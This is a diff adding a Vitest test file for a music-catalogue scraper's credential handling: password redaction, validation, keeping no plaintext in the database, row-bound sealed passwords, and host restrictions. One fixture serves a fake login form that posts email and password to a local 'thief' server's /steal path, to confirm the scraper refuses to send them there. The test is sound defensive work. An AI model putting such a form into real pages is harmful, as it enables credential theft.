@@ -1,0 +1,124 @@
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
+import { catalogues } from '../../../src/server/database/tables/catalogue-import.ts';
+import { siteLogin } from '../../factories/catalogue-sites/index.ts';
+import { makeUser } from '../../factories/users.ts';
+import { Caller } from '../../support/caller.ts';
+import { openSmallSite } from '../../support/small-site.ts';
+import { openTestApp } from '../harness.ts';
+import { ended, type ImportRoom, importAll, openImportRoom } from './import-room.ts';
+
+let room: ImportRoom;
+beforeAll(async () => {
+  room = await openImportRoom({ songs: 3 });
+});
+afterAll(() => room.close());
+
+const everyRow = async (): Promise<string> => {
+  const { pool } = room.test.app.database;
+  const { rows } = await pool.query(
+    "select table_schema || '.' || quote_ident(table_name) as name from information_schema.tables where table_schema in ('public', 'jobs') and table_type = 'BASE TABLE'",
+  );
+  const texts = await Promise.all(rows.map(({ name }) => pool.query(`select t::text from ${name} t`)));
+  return JSON.stringify(texts.map((text) => text.rows));
+};
+
+describe('saved credentials', () => {
+  it('are told without the password, by both doors', async () => {
+    for (const path of ['/api/linktone/settings', '/api/admin/scraper-credentials/linktone']) {
+      const { status, body } = await room.operator.fetch(path);
+      expect([status, body]).toEqual([200, { email: siteLogin.email, has_password: true }]);
+    }
+  });
+
+  it('are one store behind two doors', async () => {
+    const other = { email: 'other@catalogue.test', password: 'another one' };
+    const saved = await room.operator.fetch('/api/admin/scraper-credentials/patiphon', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify(other),
+    });
+    expect([saved.status, saved.body]).toEqual([200, { email: other.email, has_password: true }]);
+    expect((await room.operator.send('GET /patiphon/settings')).body.email).toBe(other.email);
+    await room.operator.send('POST /patiphon/settings', { body: siteLogin });
+  });
+
+  it.each([{}, { email: 'a@b.test' }, { password: 'x' }, { email: '', password: '' }])(
+    'are saved whole or not at all: %j',
+    async (body) => {
+      expect((await room.operator.send('POST /linktone/settings', { body })).status).toBe(422);
+      expect((await room.operator.send('GET /linktone/settings')).body.email).toBe(siteLogin.email);
+    },
+  );
+
+  it('F6: lie nowhere in the database as they were typed, those for one run neither', async () => {
+    const typed = { email: siteLogin.email, password: 'typed-for-one-run' };
+    const { body } = await room.operator.send('POST /linktone/list-releases', {
+      body: { ...typed, max_releases: 1 },
+    });
+    const during = await everyRow();
+    await ended(room.operator, 'linktone', body.session_id);
+    const after = await everyRow();
+    for (const rows of [during, after]) {
+      expect(rows).not.toContain(typed.password);
+      expect(rows).not.toContain(siteLogin.password);
+    }
+  });
+
+  it('F6: are sealed to their row: copied to the other catalogue’s they open nothing', async () => {
+    const { orm } = room.test.app.database;
+    const [linktone] = await orm.select().from(catalogues).where(eq(catalogues.type, 'linktone'));
+    const [patiphon] = await orm.select().from(catalogues).where(eq(catalogues.type, 'patiphon'));
+    const change = (sealedPassword: string | null | undefined) =>
+      orm
+        .update(catalogues)
+        .set({ sealedPassword: sealedPassword ?? null })
+        .where(eq(catalogues.type, 'patiphon'));
+    await change(linktone?.sealedPassword);
+    room.patiphon.asked.length = 0;
+    const refused = await room.operator.send('POST /admin/scheduler/run-now/patiphon');
+    expect([refused.status, refused.body.detail]).toEqual([409, 'CREDENTIALS_MISSING']);
+    expect(room.patiphon.asked).toEqual([]);
+    await change(patiphon?.sealedPassword);
+    expect((await importAll(room.operator, 'patiphon')).new_imported).toBe(3);
+  });
+});
+
+describe('F4: what is typed in goes to the catalogue’s own host alone', () => {
+  it('a login form that leads elsewhere gets nothing', async () => {
+    const thief = await openSmallSite();
+    const site = await openSmallSite();
+    onTestFinished(async () => {
+      await thief.close();
+      await site.close();
+    });
+    site.answer((request, response) => {
+      if (request.url === '/robots.txt') return void response.writeHead(404).end();
+      response.writeHead(200, { 'content-type': 'text/html' });
+      response.end(
+        `<form method=post action="${thief.origin}/steal"><input name=email><input type=password name=pw></form>`,
+      );
+    });
+    // Both may be called, so that nothing but the rule keeps the second from it.
+    const test = await openTestApp({
+      env: { LINKTONE_URL: site.origin, PATIPHON_URL: thief.origin, SCRAPER_PAUSE_MS: '0' },
+    });
+    onTestFinished(() => test.close());
+    const { token } = await makeUser(test.app, { isOperator: true });
+    const operator = new Caller(test.origin, token);
+    await operator.send('POST /linktone/settings', { body: siteLogin });
+    const { error_message, status } = await importAll(operator, 'linktone');
+    expect([status, error_message]).toEqual(['failed', 'LEADS_ELSEWHERE']);
+    expect(thief.asked).toEqual([]);
+  });
+
+  it('a cover on another host gets no cookie of the catalogue', async () => {
+    await room.operator.send('PATCH /admin/catalogues/linktone', { body: { keeps_covers: true } });
+    await importAll(room.operator, 'linktone');
+    const covers = room.linktone.asked.filter(({ url }) => url.startsWith('/media/'));
+    for (const { cookie } of covers) expect(cookie).toContain('session=');
+    expect(room.linktone.asked.every(({ agent }) => agent.startsWith('Session42Importer/1.0 (+http'))).toBe(
+      true,
+    );
+  });
+});
